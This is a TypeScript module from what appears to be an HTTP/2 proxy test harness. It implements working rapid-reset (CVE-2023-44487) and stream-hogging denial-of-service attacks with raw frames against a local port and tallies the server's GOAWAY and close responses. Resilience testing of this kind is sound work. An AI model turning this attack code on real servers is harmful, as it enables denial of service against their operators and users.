/**
 * The two HTTP/2 attacks of issue 9, run in the load-generator process (./worker.ts) with raw frames:
 *  - rapid reset (CVE-2023-44487): `connections` h2c connections, each opening `streams` streams with
 *    HEADERS and cancelling each at once with RST_STREAM(CANCEL), in batches of `batch` pairs per
 *    write; then `holdMs` to see what the server does (GOAWAY, close).
 *  - stream hog: one h2c connection keeps as many of `streams` streams open on a slow path as the
 *    server allows (or all at once, `ignoreLimit`), for `holdMs`, then leaves (closes the connection).
 * MARK start / end bound the attack (the parent runs its probe and samples the proxy in between).
 */

import { getHeaderBlock, headersFrame, rstStreamFrame } from "../../lib/h2_frames.js";
import { sleep } from "../../lib/wait.js";
import { mark } from "../load/protocol.js";
import { type ConnTally, emptyTally, RawH2Client } from "./h2_frames.js";

export interface RapidResetJob {
  kind: "rapid-reset";
  port: number;
  connections: number;
  streams: number;
  batch: number;
  holdMs: number;
}

export interface StreamHogJob {
  kind: "stream-hog";
  port: number;
  streams: number;
  path: string;
  batch: number;
  holdMs: number;
  /** Open every stream at once, whatever the server's SETTINGS_MAX_CONCURRENT_STREAMS. */
  ignoreLimit: boolean;
}

export type AttackJob = RapidResetJob | StreamHogJob;

export interface AttackResult {
  /** Every connection's tally added up. */
  total: ConnTally;
  connections: number;
  /** Connections the server closed (or sent GOAWAY on) before the client left. */
  closedByServer: number;
  goaways: number;
  /** The server's SETTINGS_MAX_CONCURRENT_STREAMS (first connection), null when it sent none. */
  advertisedStreams: number | null;
  /** Wall time of the attack from the first connect to the client leaving, ms. */
  ms: number;
}

/** The tallies added up; `goaway` is the first GOAWAY code seen, `closedByServer` whether any was closed. */
function sum(tallies: ConnTally[]): AttackResult["total"] {
  const total = emptyTally();
  total.maxConcurrentStreams = tallies[0]?.maxConcurrentStreams ?? null;
  for (const t of tallies) {
    total.opened += t.opened;
    total.goaway ??= t.goaway;
    total.closedByServer ||= t.closedByServer;
    for (const [k, v] of Object.entries(t.statuses)) total.statuses[k] = (total.statuses[k] ?? 0) + v;
    for (const [k, v] of Object.entries(t.resets)) total.resets[k] = (total.resets[k] ?? 0) + v;
  }
  return total;
}

function result(clients: RawH2Client[], started: number): AttackResult {
  const tallies = clients.map((c) => c.tally);
  return {
    total: sum(tallies),
    connections: clients.length,
    closedByServer: tallies.filter((t) => t.closedByServer || t.goaway !== null).length,
    goaways: tallies.filter((t) => t.goaway !== null).length,
    advertisedStreams: tallies[0]?.maxConcurrentStreams ?? null,
    ms: Date.now() - started,
  };
}

/** Rapid reset: `count` HEADERS + RST_STREAM(CANCEL) pairs on streams 1, 3, 5, ..., `batch` per write. */
async function resetStreams(client: RawH2Client, block: Buffer, count: number, batch: number): Promise<void> {
  for (let first = 0; first < count && client.open; first += batch) {
    const frames: Buffer[] = [];
    const last = Math.min(count, first + batch);
    for (let i = first; i < last; i++) frames.push(headersFrame(2 * i + 1, block), rstStreamFrame(2 * i + 1));
    await client.write(Buffer.concat(frames));
    if (client.open) client.tally.opened += last - first;
  }
}

export async function rapidReset(job: RapidResetJob): Promise<AttackResult> {
  const block = getHeaderBlock("/", `127.0.0.1:${job.port}`);
  await mark("start");
  const started = Date.now();
  const clients = await Promise.all(
    Array.from({ length: job.connections }, () => RawH2Client.connect(job.port)),
  );
  await Promise.all(clients.map((c) => resetStreams(c, block, job.streams, job.batch)));
  await Promise.all(clients.map((c) => c.waitClosed(job.holdMs)));
  await Promise.all(clients.map((c) => c.close()));
  const out = result(clients, started);
  await mark("end");
  return out;
}

/**
 * Stream hog: as many of `streams` as the server allows at once (its SETTINGS_MAX_CONCURRENT_STREAMS,
 * as a client library keeps to; all of them with `ignoreLimit`), a new one whenever one ends, until
 * `holdMs` after the start; then the client leaves.
 */
export async function streamHog(job: StreamHogJob): Promise<AttackResult> {
  const block = getHeaderBlock(job.path, `127.0.0.1:${job.port}`);
  await mark("start");
  const started = Date.now();
  const client = await RawH2Client.connect(job.port);
  await Promise.race([client.settings, sleep(1000)]);
  const limit = job.ignoreLimit
    ? Number.POSITIVE_INFINITY
    : (client.tally.maxConcurrentStreams ?? Number.POSITIVE_INFINITY);
  let wake: () => void = () => undefined;
  client.onStreamEnd = () => wake();
  let sent = 0;
  while (client.open && Date.now() < started + job.holdMs) {
    const room = Math.min(job.streams - sent, limit - client.live.size, job.batch);
    if (room <= 0) {
      await new Promise<void>((resolve) => {
        wake = resolve;
        setTimeout(resolve, 50);
      });
      continue;
    }
    const ids = Array.from({ length: room }, (_, i) => 2 * (sent + i) + 1);
    await client.write(Buffer.concat(ids.map((id) => headersFrame(id, block))));
    client.opened(ids);
    sent += room;
  }
  await client.waitClosed(started + job.holdMs - Date.now());
  await client.close();
  const out = result([client], started);
  await mark("end");
  return out;
}

export function runAttack(job: AttackJob): Promise<AttackResult> {
  return job.kind === "rapid-reset" ? rapidReset(job) : streamHog(job);
}
